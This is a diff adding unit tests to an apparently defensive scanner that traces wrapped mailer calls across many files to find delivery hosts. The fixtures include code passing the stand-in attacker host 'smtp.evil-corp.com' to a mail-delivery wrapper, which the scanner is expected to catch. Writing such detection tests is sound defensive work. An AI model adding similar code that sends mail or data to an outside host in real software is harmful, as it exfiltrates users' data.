@@ -80,6 +80,35 @@ describe('a function whose name stands in many files', () => {
   });
 });
 
+describe('a function on the way whose name stands in many files', () => {
+  const wrapped = (name: string, callers: number, argument: string): Record<string, string> => ({
+    'src/mailer.js': MAILER,
+    'src/wrap.js': `const mailer = require('./mailer');\nexports.${name} = (to) => mailer.deliver(to);\n`,
+    ...many(callers, (index) => [
+      `apps/a${index}.js`,
+      `const { ${name} } = require('../src/wrap');\nconst at = places[${index}];\n${name}(at);\n`,
+    ]),
+    'apps/z.js': `const { ${name} } = require('../src/wrap');\nconst at = 'smtp.evil-corp.com';\n${name}(${argument});\n`,
+  });
+
+  it.each([
+    ['few call it', wrapped('handOver', 5, 'at')],
+    ['many call it, one with a host', wrapped('handOver', 30, "'smtp.evil-corp.com'")],
+    ['many call it, and its name speaks of a relay', wrapped('throughRelay', 12, 'at')],
+  ])('is followed where %s', async (_, files) => {
+    expect(await scanned(files)).toEqual({ hosts: ['smtp.evil-corp.com'], complete: true, said: [] });
+  });
+
+  it('does not lead to all of an application', async () => {
+    const entity = many(60, (index) => [
+      `app/entity${index}.js`,
+      `const { open } = require('../src/wrap');\nexports.load${index} = (id) => open(store.entity${index}.get(id));\n`,
+    ]);
+    const found = await scanned({ ...wrapped('open', 0, 'place'), ...entity });
+    expect(found).toEqual({ hosts: [], complete: true, said: [] });
+  });
+});
+
 describe('a key whose words stand in many files', () => {
   it('is looked for where they are keys', async () => {
     const found = await scanned({
